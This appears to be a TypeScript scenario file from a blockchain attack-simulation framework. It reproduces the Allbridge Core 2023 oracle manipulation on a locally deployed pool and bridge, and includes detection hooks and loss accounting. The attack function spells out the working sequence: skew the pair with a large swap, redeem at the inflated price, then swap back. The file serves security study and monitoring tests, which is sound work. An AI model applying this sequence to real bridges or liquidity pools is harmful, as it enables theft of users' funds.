import * as LiquidityBridge from '@cutwater/contracts/generated/LiquidityBridge.ts'
import * as Pool from '../beside/Pool.ts'
import { coinOf, usdOf } from '../bridge/Coins.ts'
import { balanceOf } from '../bridge/gap.ts'
import * as Chain from '../chain/Chain.ts'
import type { Scenario, Stage } from './Scenario.ts'
import { dollarsBetween } from './steal.ts'

/** The most the attacker brings: dollars to move the pair with, and wrapped ones to redeem. */
const pushDollars = 4_000_000
const redeemedDollars = 500_000

export const oracleManipulation: Scenario = {
  name: 'oracle-manipulation',
  incident: 'Allbridge Core 2023',
  says: 'One large swap makes wrapped dollars look nine times as dear; the liquidity bridge redeems at that price, and the swap is undone in the same block.',
  steps: 'single',
  // It begins with a trade as anybody may make.
  visibleBefore: false,
  deceived: false,
  limitedBy:
    'the average of half an hour and the check of the pair against it: the redemption is refused. Then the pause of the token, which anybody with a large swap can bring about. Holding the pair away for the whole half hour would move the average',
  prepare: async (stage) => {
    const pool = await Pool.deploy(stage)
    stage.notes.set('pool', pool)
    const { attacker } = stage.world.accounts
    await Pool.endow(stage, pool, attacker.address, { wrapped: redeemedDollars, native: pushDollars })
    await stage.nextBlock()
  },
  observe: async (stage, place, block) =>
    place === 'south' ? Pool.readQuotes(stage, poolOf(stage), block) : [],
  attack: async (stage) => {
    const { world } = stage
    const { address } = world.accounts.attacker
    const pool = poolOf(stage)
    const before = await Pool.reservesOf(stage, pool)
    const pushed = Pool.dollarUnits(dollarsBetween(stage.rng, 1_500_000, pushDollars))
    const redeemed = Pool.dollarUnits(dollarsBetween(stage.rng, 100_000, redeemedDollars))
    const bought = Pool.paid(before.native, before.wrapped, pushed)
    await Pool.rawSwap(stage, pool, address, { sells: 'native', amountIn: pushed, amountOut: bought })
    const args = [redeemed, 0n, address] as const
    const redeem = { abi: LiquidityBridge.abi, functionName: 'redeem', args } as const
    await Chain.send(world.chains.south, address, Chain.call(pool.bridge, redeem))
    const sold = Pool.paid(before.wrapped - bought, before.native + pushed, bought)
    await Pool.rawSwap(stage, pool, address, { sells: 'wrapped', amountIn: bought, amountOut: sold })
    // The rest is for the watch: what it finds comes after the fact.
    for (let block = 0; block < 6; block++) await stage.nextBlock()
  },
  // What is gone from the inventory, wrapped dollars at par.
  lostUsd: async (stage) => {
    const { wrapped, native, bridge } = poolOf(stage)
    const left = [
      await balanceOf(stage.world, 'south', wrapped, bridge),
      await balanceOf(stage.world, 'south', native, bridge),
    ]
    const lost = Pool.dollarUnits(Pool.inventoryDollars) - left[0]! - left[1]!
    return usdOf(coinOf('USD'), lost > 0n ? lost : 0n)
  },
}

function poolOf({ notes }: Stage): Pool.Pool {
  return notes.get('pool') as Pool.Pool
}
